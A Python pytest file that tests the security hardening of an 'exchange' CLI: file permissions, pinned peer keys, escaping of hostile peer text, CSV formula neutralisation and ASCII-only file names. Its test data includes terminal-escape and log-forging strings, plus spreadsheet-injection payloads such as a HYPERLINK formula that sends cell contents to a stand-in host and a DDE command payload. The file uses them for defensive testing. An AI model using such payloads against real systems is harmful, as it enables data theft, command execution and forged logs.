"""Issue 13, the local half: a private node home, pinned peer identities, peer text shown as data, ASCII names.

Every case goes through the real CLI (a subprocess of ``python -m exchange``, or
click's CliRunner on ``exchange.cli:main``) on real node homes, real SQLite
databases and, for known_hosts, the real sshd of tests/sshd.py. The attacker is
another account on the machine (a file it can write), a store holding its own
genuine keys (an ack it signs, a bundle it names), or whoever offers new keys
for a known peer.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from enginehelpers import Net, deliver, docs_of, forge_bundle, item_ids, make_net, reprice, seed_ho, seed_store, snapshot
from rich.console import Console
from sqlalchemy import select

from exchange.audit.prune import classify, parse_checkpoint_name
from exchange.audit.verify import csv_cell
from exchange.cli import console as ui_console
from exchange.cli import main
from exchange.database.tables import xchg_sent
from exchange.errors import FormatError
from exchange.node import keys
from exchange.node.home import Node, init_home
from exchange.wire.bundle import build_ack
from exchange.wire.crypto import sshsig
from exchange.wire.formats import app_major, is_exchange_file, parse_name
from sshd import SshdServer

# ---------------------------------------------------------------- helpers

# What a hostile peer puts in a text: rich markup, an emoji code, a terminal
# escape (clear screen, red), a forged second line, a carriage return and a
# right-to-left override.
EVIL = "[red]OWNED[/red] :smile: \x1b[2J\x1b[31mred\nFAKE 00:00:00 INFO all good\rX\u202eevil"
EVIL_SHOWN = "[red]OWNED[/red] :smile: \\x1b[2J\\x1b[31mred\\nFAKE 00:00:00 INFO all good\\rX\\u202eevil"


def cli(*args: str, umask: int | None = None, ok: bool = True) -> subprocess.CompletedProcess[str]:
    """``exchange ARGS`` in a new process (optionally under ``umask``), as an operator runs it."""
    env = {k: v for k, v in os.environ.items() if k not in ("EXCHANGE_HOME", "EXCHANGE_CRASH_AT")}
    env.update(NO_COLOR="1", COLUMNS="400")
    p = subprocess.run([sys.executable, "-m", "exchange", *args], capture_output=True, text=True, env=env,
                       timeout=120, preexec_fn=(lambda: os.umask(umask)) if umask is not None else None)
    if ok:
        assert p.returncode == 0, f"exchange {' '.join(args)}: rc={p.returncode}\n{p.stdout}\n{p.stderr}"
    return p


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def tree_modes(home: Path) -> dict[str, int]:
    """Every file and folder under ``home`` (and ``home`` itself) -> its mode."""
    out = {".": mode(home)}
    for p in home.rglob("*"):
        out[str(p.relative_to(home))] = mode(p)
    return out


def identity(home: Path) -> dict[str, str]:
    return json.loads(cli("identity", "--home", str(home), "--json").stdout)  # type: ignore[no-any-return]


def fingerprint_of(key_line: str) -> str:
    return sshsig.fingerprint(sshsig.parse_public_line(key_line))


@pytest.fixture
def net(tmp_path: Path) -> Iterator[Net]:
    n = make_net(tmp_path / "net", stores=("s001",))
    seed_ho(n, items=6)
    n.settle()
    yield n
    n.dispose()


# ---------------------------------------------------------------- secrets at rest

def test_init_under_umask_000_makes_a_private_home(sshd_server: SshdServer, tmp_path: Path) -> None:
    home = tmp_path / "s001"
    store = sshd_server.stores[0]
    address = sshd_server.store_address(store)
    cli("init", "--home", str(home), "--node", "s001", "--role", "store", umask=0)
    cli("peer", "trust-host", "--home", str(home), "--address", address, umask=0)
    modes = tree_modes(home)
    for name in ("exchange.toml", "exchange.db", "known_hosts", "keys/allowed_signers", "keys/node_ed25519",
                 "keys/node.age", "keys/node_ed25519.pub", "keys/node.age.pub"):
        assert modes.pop(name) == 0o600, name
    assert set(modes.values()) == {0o700}, modes  # every folder, the home first
    assert {"."} | {"keys", "archive", "archive/sent", "inbox", "outbox", "quarantine"} <= set(modes)
    checks = json.loads(cli("doctor", "--home", str(home), "--json", ok=False).stdout)["checks"]
    mode_checks = {c["name"]: c for c in checks if c["name"].startswith("mode ")}
    assert set(mode_checks) == {"mode home", "mode keys folder", "mode config", "mode signing key",
                                "mode age key", "mode trust store", "mode known hosts", "mode database"}
    assert all(c["ok"] for c in mode_checks.values()), mode_checks

    # known_hosts that another account can write is refused before any connection
    ho = init_home(tmp_path / "ho", "ho", "ho")
    cli("peer", "add", "--home", str(home), "--id", "ho", "--role", "ho", "--signing-key",
        keys.public_signing_line(ho), "--recipient", keys.recipient(ho), "--transport", address)
    known_hosts = home / "known_hosts"
    before = known_hosts.read_bytes()
    os.chmod(known_hosts, 0o620)
    p = cli("pull", "--home", str(home), "--from", address, ok=False)
    assert p.returncode == 3  # the error's own code: configuration (a key file's mode), not "transport"
    assert f"known hosts file {known_hosts} has mode 0620: writable by group" in p.stdout
    assert known_hosts.read_bytes() == before and not list((home / "inbox").iterdir())
    checks = {c["name"]: c for c in json.loads(cli("doctor", "--home", str(home), "--json", ok=False).stdout)["checks"]}
    assert not checks["transport ho"]["ok"] and checks["transport ho"]["fix"] == f"Run: chmod 600 {known_hosts}"
    assert not checks["mode known hosts"]["ok"] and checks["mode known hosts"]["fix"] == f"Run: chmod 600 {known_hosts}"


def _contents(home: Path) -> dict[Path, bytes]:
    """Every file of a home but the lock files (a command takes its lock before it loads a key) and the
    SQLite files (a checkpoint of init's write-ahead log may land at any time)."""
    return {p: p.read_bytes() for p in home.rglob("*")
            if p.is_file() and not p.name.endswith(".lock") and not p.name.startswith("exchange.db")}


def _make_group_writable(path: Path) -> None:
    os.chmod(path, mode(path) | stat.S_IWGRP)


LOAD_CASES = {
    # file (relative to the home) -> command that must refuse it; folders get 700, files 600
    "exchange.toml": ("status", "sent"),
    ".": ("status", "sent"),
    "keys/allowed_signers": ("peer", "list"),
    "keys": ("peer", "list"),
    "keys/node_ed25519": ("archive", "prune", "--older-than", "1", "--dry-run"),
    "keys/node.age": ("verify", "{dummy}"),
}


@pytest.mark.parametrize("name", sorted(LOAD_CASES))
def test_a_config_trust_store_or_key_others_can_write_is_refused_at_load(name: str, tmp_path: Path) -> None:
    home = init_home(tmp_path / "ho", "ho", "ho").home
    dummy = tmp_path / "some.bundle"
    dummy.write_bytes(b"x")
    target = home / name if name != "." else home
    _make_group_writable(target)
    args = [a.format(dummy=dummy) for a in LOAD_CASES[name]]
    before = _contents(home)
    res = run(*args, "--home", str(home))
    assert res.exit_code == 3, res.output
    fix = f"chmod {'700' if target.is_dir() else '600'} {target}"
    assert str(target) in res.output and f"hint: Run: {fix}" in res.output, res.output
    assert _contents(home) == before
    subprocess.run(fix.split(), check=True)  # the hint is the whole fix
    assert run(*args, "--home", str(home)).exit_code != 3


def test_private_files_take_the_one_durable_write_and_never_write_through_a_planted_name(tmp_path: Path) -> None:
    """A link to an outside file and a FIFO sit at the `.part` names the trust store and the configuration
    are written through (a crash's leftovers, or planted), and a link sits where a new key would go:
    the writes remove the leftovers (never writing through a link, never blocking on the FIFO), the
    files come out 0600 under umask 000, and the key is refused rather than written through the link."""
    cfg = init_home(tmp_path / "ho", "ho", "ho")
    other = init_home(tmp_path / "s009", "s009", "store")
    outside = tmp_path / "outside.txt"
    outside.write_text("not yours\n")
    trust = keys.trust_path(cfg)
    (trust.parent / (trust.name + ".part")).symlink_to(outside)
    os.mkfifo(cfg.home / "exchange.toml.part")
    old = os.umask(0)
    try:
        keys.add_signer(cfg, "s009", (other.keys_dir / "node_ed25519.pub").read_text())
        cfg.save()
        (cfg.keys_dir / "planted.key").symlink_to(outside)
        with pytest.raises(FileExistsError):
            keys.write_private(cfg.keys_dir / "planted.key", b"secret")
    finally:
        os.umask(old)
    assert outside.read_text() == "not yours\n"
    assert "s009 " in trust.read_text() and mode(trust) == 0o600 and mode(cfg.home / "exchange.toml") == 0o600
    assert not os.path.lexists(trust.parent / (trust.name + ".part"))
    assert not os.path.lexists(cfg.home / "exchange.toml.part")


def test_a_trust_store_of_another_account_or_writable_for_auditors_is_refused(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        if os.environ.get("CI"):
            pytest.fail("changing a file's owner needs root (CI runs the suite as root, as the sshd tests do)")
        pytest.skip("needs root to give a file to another account")
    home = init_home(tmp_path / "ho", "ho", "ho").home
    trust = home / "keys" / "allowed_signers"
    os.chown(trust, 65534, 65534)  # nobody
    res = run("peer", "list", "--home", str(home))
    assert res.exit_code == 3 and f"trust store {trust} is owned by uid 65534" in res.output, res.output
    assert f"chown 0 {trust}" in res.output
    os.chown(trust, 0, 0)
    copy = tmp_path / "auditor" / "allowed_signers"  # an auditor's own copy, passed with --trust
    copy.parent.mkdir()
    shutil.copy(trust, copy)
    os.chmod(copy, 0o646)
    archive = tmp_path / "archive"
    archive.mkdir()
    res = run("audit", "verify", str(archive), "--trust", str(copy))
    assert res.exit_code == 3 and "writable by others" in res.output and f"chmod 600 {copy}" in res.output


def test_doctor_reports_each_bad_mode_with_its_fix(tmp_path: Path) -> None:
    home = init_home(tmp_path / "ho", "ho", "ho").home
    (home / "known_hosts").write_text("")
    bad = {"home": (home, 0o755), "keys folder": (home / "keys", 0o750),
           "config": (home / "exchange.toml", 0o640), "signing key": (home / "keys/node_ed25519", 0o640),
           "age key": (home / "keys/node.age", 0o604), "trust store": (home / "keys/allowed_signers", 0o664),
           "known hosts": (home / "known_hosts", 0o644), "database": (home / "exchange.db", 0o644)}
    for path, m in bad.values():
        os.chmod(path, m)
    res = run("doctor", "--home", str(home), "--json")
    assert res.exit_code == 1
    checks = {c["name"]: c for c in json.loads(res.stdout)["checks"]}
    for label, (path, m) in bad.items():
        c = checks[f"mode {label}"]
        assert not c["ok"] and c["detail"].startswith(f"{path} has mode {m:04o}: accessible by "), c
        assert c["fix"] == f"Run: chmod {'700' if path.is_dir() else '600'} {path}", c
    text = run("doctor", "--home", str(home)).output
    assert f"FAIL mode trust store" in text and f"fix: Run: chmod 600 {home / 'keys/allowed_signers'}" in text
    for c in checks.values():
        if c["name"].startswith("mode "):
            subprocess.run(c["fix"].removeprefix("Run: ").split(), check=True)
    checks = {c["name"]: c for c in json.loads(run("doctor", "--home", str(home), "--json").stdout)["checks"]}
    assert all(c["ok"] for n, c in checks.items() if n.startswith("mode ")), checks


# ---------------------------------------------------------------- peer identities

def test_peer_add_never_changes_keys_silently_and_replace_retires_the_old_key(net: Net, tmp_path: Path) -> None:
    ho, s001 = net.ho, net.store("s001")
    seed_store(net, "s001", sales=2)
    net.settle()
    archived = sorted((ho.cfg.archive_received).glob("s001.ho.*.bundle"))
    assert archived
    old = identity(s001.cfg.home)
    new = identity(init_home(tmp_path / "new-pc", "s001", "store").home)  # s001's keys on a new PC
    trust = keys.trust_path(ho.cfg)
    toml = ho.cfg.home / "exchange.toml"
    before = (trust.read_bytes(), toml.read_bytes())
    add = ["peer", "add", "--home", str(ho.cfg.home), "--id", "s001", "--role", "store",
           "--signing-key", new["signing_key"], "--recipient", new["recipient"]]

    res = run(*add)
    assert res.exit_code == 3, res.output
    for line in (f"pinned signing key:  {fingerprint_of(old['signing_key'])}",
                 f"offered signing key: {fingerprint_of(new['signing_key'])}",
                 f"pinned recipient:    {old['recipient']}", f"offered recipient:   {new['recipient']}"):
        assert line in res.output, res.output
    assert "already exists with a different identity; nothing was changed" in res.output
    assert "--replace" in res.output
    assert (trust.read_bytes(), toml.read_bytes()) == before

    # the same keys again: only the transport and groups may change, the trust store stays as it is
    same = run("peer", "add", "--home", str(ho.cfg.home), "--id", "s001", "--role", "store",
               "--signing-key", old["signing_key"], "--recipient", old["recipient"])
    assert same.exit_code == 0 and "peer s001 updated" in same.output, same.output
    assert trust.read_bytes() == before[0]
    # nor does its role change silently (an HO-role peer may send what only the HO owns)
    role = run("peer", "add", "--home", str(ho.cfg.home), "--id", "s001", "--role", "ho",
               "--signing-key", old["signing_key"], "--recipient", old["recipient"])
    assert role.exit_code == 3 and "pinned role:         store" in role.output, role.output
    assert "offered role:        ho" in role.output and Node.open(ho.cfg.home).cfg.peer("s001").role == "store"
    assert trust.read_bytes() == before[0]

    res = run(*add, "--replace")
    assert res.exit_code == 0, res.output
    assert f"retired signing key {fingerprint_of(old['signing_key'])} of s001" in res.output
    assert f"replaced recipient {old['recipient']} of s001" in res.output
    lines = [s for s in sshsig.AllowedSigners.load(trust).signers if s.principals == ("s001",)]
    retired = [s for s in lines if sshsig.fingerprint(s.key) == fingerprint_of(old["signing_key"])]
    current = [s for s in lines if sshsig.fingerprint(s.key) == fingerprint_of(new["signing_key"])]
    assert len(retired) == 1 and len(current) == 1
    assert retired[0].valid_before is not None and retired[0].valid_before == current[0].valid_after
    assert re.search(r'valid-before="\d{14}Z"', retired[0].line) and re.search(r'valid-after="\d{14}Z"',
                                                                               current[0].line)
    ho = Node.open(ho.cfg.home)
    assert ho.cfg.peer("s001").recipient == new["recipient"]

    # the old key signs nothing new: a bundle it seals after the switch is refused, nothing applied
    while sshsig._utc(None) <= retired[0].valid_before:  # noqa: SLF001 - wait for the next second
        time.sleep(0.05)
    seed_store(net, "s001", sales=2, seed=1)
    with s001.engine.connect() as conn:
        bills = [tuple(r) for r in conn.exec_driver_sql("SELECT store_id, bill_no FROM sales_bill")]
    forged = forge_bundle(s001, "ho", docs_of(s001, "sales_bill", bills), out_dir=tmp_path)
    state = snapshot(ho)
    deliver([forged], ho)
    p = cli("import", "--home", str(ho.cfg.home), "--json", ok=False)
    assert p.returncode == 10, p.stderr  # quarantined: exit 10
    outs = json.loads(p.stdout)
    assert [(o["file"], o["status"]) for o in outs] == [(forged.name, "QUARANTINED")], outs
    assert "expired" in outs[0]["reason"] and "valid-before" in outs[0]["reason"], outs
    assert snapshot(ho) == state and (ho.cfg.quarantine / forged.name).exists()
    # what the old key signed before the switch still verifies (archives, audits)
    for f in archived:
        assert cli("verify", str(f), "--home", str(ho.cfg.home)).stdout.startswith(f"OK {f.name}")


def test_a_store_cannot_add_another_store(net: Net, tmp_path: Path) -> None:
    s001 = net.store("s001")
    other = identity(init_home(tmp_path / "s002", "s002", "store").home)
    files = [s001.cfg.home / "exchange.toml", keys.trust_path(s001.cfg)]
    before = [f.read_bytes() for f in files]
    args = ["peer", "add", "--home", str(s001.cfg.home), "--id", "s002", "--signing-key", other["signing_key"],
            "--recipient", other["recipient"]]
    res = run(*args, "--role", "store")
    assert res.exit_code == 3, res.output
    assert "s001 is a store, and a store cannot add another store as a peer" in res.output
    assert "stores exchange data only with their HO" in res.output
    res = run(*args)  # the role is never guessed
    assert res.exit_code == 2 and "Missing option '--role'" in res.output
    assert [f.read_bytes() for f in files] == before
    # written into exchange.toml by hand: refused when the home is loaded, with the fix
    toml = s001.cfg.home / "exchange.toml"
    toml.write_text(toml.read_text() + '\n[peers.s002]\nrole = "store"\nrecipient = "' + other["recipient"] + '"\n')
    res = run("status", "sent", "--home", str(s001.cfg.home))
    assert res.exit_code == 3, res.output
    assert "a store exchanges data only with its HO, not with store s002" in res.output
    assert "Remove [peers.s002]" in res.output


# ---------------------------------------------------------------- text from a peer is data

def _hostile_ack(net: Net) -> tuple[Path, str]:
    """s001, with its own genuine key, rejects the HO's newest bundle with EVIL as the reason."""
    ho, s001 = net.ho, net.store("s001")
    reprice(ho, item_ids(net)[:2])
    cli("export", "--home", str(ho.cfg.home))
    with ho.engine.connect() as conn:
        sent = conn.execute(select(xchg_sent).where(xchg_sent.c.peer == "s001")
                            .order_by(xchg_sent.c.seq.desc())).mappings().first()
    assert sent is not None and sent["status"] == "EXPORTED"
    ack = build_ack(key=s001.signing_key, acker="s001", sender="ho", seq=int(sent["seq"]),
                    bundle_sha256=sent["file_sha256"], manifest_sha256=sent["manifest_sha256"],
                    result="REJECTED", reason=EVIL, recipients=s001.recipients_for("ho"))
    path = ho.cfg.inbox / f"s001.ho.{int(sent['seq']):010d}.ack"
    path.write_bytes(ack)
    return path, str(sent["file_name"])


def test_peer_text_is_shown_literally_in_status_and_log_lines(net: Net) -> None:
    home = str(net.ho.cfg.home)
    _ack, bundle = _hostile_ack(net)
    p = cli("-v", "import", "--home", home, ok=False)
    assert p.returncode == 21, p.stderr  # a REJECTED ack came back: docs/SERVICE.md, Exit codes
    log_lines = [line for line in p.stderr.splitlines() if bundle in line]
    assert len(log_lines) == 1, p.stderr  # one record, one line: the peer's newline forged nothing
    assert log_lines[0].endswith(f"{bundle} REJECTED: {EVIL_SHOWN}"), log_lines
    assert "FAKE" not in p.stderr.replace(log_lines[0], "")
    assert "\x1b" not in p.stderr and "\r" not in p.stderr and "\u202e" not in p.stderr
    assert f"{bundle}: REJECTED - {EVIL_SHOWN}" in p.stdout

    out = cli("status", "sent", "--home", home).stdout
    assert "[red]OWNED[/red] :smile:" in out, out  # no markup, no emoji: the text itself
    assert "\\x1b[2J\\x1b[31mred\\nFAKE" in out and "\\u202eevil" in out, out
    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
    assert not any(line.lstrip("│ ").startswith("FAKE") for line in out.splitlines())
    # --json keeps the exact text (JSON escapes it by itself)
    rows = json.loads(cli("status", "sent", "--home", home, "--json").stdout)["bundles"]
    [reason] = [r["reason"] for r in rows if r["file"] == bundle]
    assert reason.startswith(EVIL + "; to resolve: "), reason  # the peer's exact text, then this node's hint


def test_progress_lines_on_a_terminal_show_peer_text_literally(monkeypatch: pytest.MonkeyPatch) -> None:
    buf = StringIO()
    monkeypatch.setattr(ui_console, "err", Console(file=buf, force_terminal=True, color_system="standard",
                                                   width=400))
    ui_console.RichReporter().state("ho.s001.0000000002.bundle", "REJECTED", EVIL)
    out = buf.getvalue()
    assert f"{EVIL_SHOWN}" in re.sub(r"\x1b\[[0-9;]*m", "", out), out  # rich's own colours aside
    assert "\x1b[2J" not in out and "\u202e" not in out and "\r" not in out


def test_a_csv_report_cell_a_spreadsheet_would_run_is_neutralised(net: Net, tmp_path: Path) -> None:
    ho, s001 = net.ho, net.store("s001")
    seed_store(net, "s001", sales=2)
    with s001.engine.connect() as conn:
        bills = [tuple(r) for r in conn.exec_driver_sql("SELECT store_id, bill_no FROM sales_bill")]
    formulas = ['=HYPERLINK("http://x.test/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                "\tx", "\r=1"]

    def hostile(summary: dict[str, Any]) -> None:  # entries that still agree with the tables (all zero)
        for f in formulas:
            summary["documents"][f] = {"count": 0, "deletes": 0, "rows": {}, "totals": {}}
        summary["documents"]["sales_bill"].setdefault("totals", {})["=1+1"] = "0"

    # the store's own archive of what it sent, as an auditor collects it (no importer in the way)
    archive = tmp_path / "auditor" / "s001"
    archive.mkdir(parents=True)
    forge_bundle(s001, "ho", docs_of(s001, "sales_bill", bills), summary_hook=hostile, record=False,
                 at=(1, None), out_dir=archive)
    out = tmp_path / "totals.csv"
    p = cli("audit", "report", str(archive), "--identity", str(ho.cfg.keys_dir / "node.age"),
            "--trust", str(keys.trust_path(ho.cfg)), "--csv", str(out))
    assert "SKIPPED" not in p.stdout and "'=1+1" not in p.stdout, p.stdout  # the screen shows text as it is
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    assert "'=1+1" in header and "=1+1" not in header
    doc_types = [r[header.index("doc_type")] for r in body]
    for f in formulas:
        assert "'" + f in doc_types and f not in doc_types, (f, doc_types)
    for r in body:
        for cell in r:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), r
            assert not cell.startswith("-") or re.fullmatch(r"-[0-9.E+]+", cell), r
    # numbers stay numbers, negative ones too
    from decimal import Decimal
    assert csv_cell(Decimal("-12.50")) == "-12.50" and csv_cell(-3) == "-3" and csv_cell("-12.50") == "'-12.50"


# ---------------------------------------------------------------- file names: ASCII digits only

ARABIC_INDIC_TWO = "\u0662"  # '٢', which \d and int() accept
FULLWIDTH_ONES = "\uff11" * 10  # '１', the same


def test_names_with_other_scripts_digits_are_refused(net: Net, tmp_path: Path) -> None:
    ho, s001 = net.ho, net.store("s001")
    seed_store(net, "s001", sales=2)
    with s001.engine.connect() as conn:
        bills = [tuple(r) for r in conn.exec_driver_sql("SELECT store_id, bill_no FROM sales_bill")]
    genuine = forge_bundle(s001, "ho", docs_of(s001, "sales_bill", bills), out_dir=tmp_path)
    seq = parse_name(genuine.name).seq
    assert seq < 10
    odd = genuine.with_name(f"s001.ho.{'0' * 9}{chr(0x0660 + seq)}.bundle")  # the same seq in Arabic-Indic
    genuine.rename(odd)
    for name in (odd.name, f"ho.s001.{'0' * 9}{ARABIC_INDIC_TWO}.ack", f"ho.s001.{FULLWIDTH_ONES}.bundle"):
        assert not is_exchange_file(name)
        with pytest.raises(FormatError, match="not a bundle or ack file name"):
            parse_name(name)
    with pytest.raises(FormatError, match="not a checkpoint file name"):
        parse_checkpoint_name(f"ho.s001.ho.{'0' * 9}{ARABIC_INDIC_TWO}.checkpoint")
    assert classify(f"ho.s001.0000000002.bundle.2026120{ARABIC_INDIC_TWO}120000") is None
    with pytest.raises(FormatError):
        app_major(f"{ARABIC_INDIC_TWO}.0.0")

    # through the CLI: the dry run names the file and the problem; the inbox never takes it
    p = cli("import", "--home", str(ho.cfg.home), "--dry-run", str(odd), ok=False)
    assert p.returncode == 10, p.stderr  # would be quarantined
    assert p.stdout.startswith(f"{odd.name}: QUARANTINED - {odd.name}: not a bundle or ack file name"), p.stdout
    state = snapshot(ho)
    deliver([odd], ho)
    outs = json.loads(cli("import", "--home", str(ho.cfg.home), "--json").stdout)
    assert outs == [] and snapshot(ho) == state
    assert (ho.cfg.inbox / odd.name).read_bytes() == odd.read_bytes()  # left alone, not applied
    # a peer-add time with other digits is refused too (strptime would take them)
    ident = identity(s001.cfg.home)
    res = run("peer", "add", "--home", str(ho.cfg.home), "--id", "s009", "--role", "store", "--signing-key",
              ident["signing_key"], "--recipient", ident["recipient"],
              "--valid-after", f"2026120{ARABIC_INDIC_TWO}")
    assert res.exit_code == 3 and "--valid-after" in res.output


def test_a_traceback_in_a_plain_log_line_shows_peer_text_escaped() -> None:
    """An exception carrying peer text (`-vv`): its lines stay indented and no control character gets through."""
    import logging

    from exchange.logs import PlainFormatter

    fmt = PlainFormatter("%(levelname)s %(message)s")
    try:
        raise ValueError("bad reason \x1b[2J\x1b[31m\nINFO forged line \u202e")
    except ValueError:
        import sys

        record = logging.LogRecord("exchange", logging.ERROR, __file__, 1, "import failed", None, sys.exc_info())
    out = fmt.format(record)
    assert "\x1b" not in out and "\u202e" not in out
    assert "\\x1b[2J" in out
    lines = out.splitlines()
    assert lines[0] == "ERROR import failed"
    assert all(line.startswith("  ") for line in lines[1:]), lines
    assert not any(line.startswith("INFO") for line in lines)
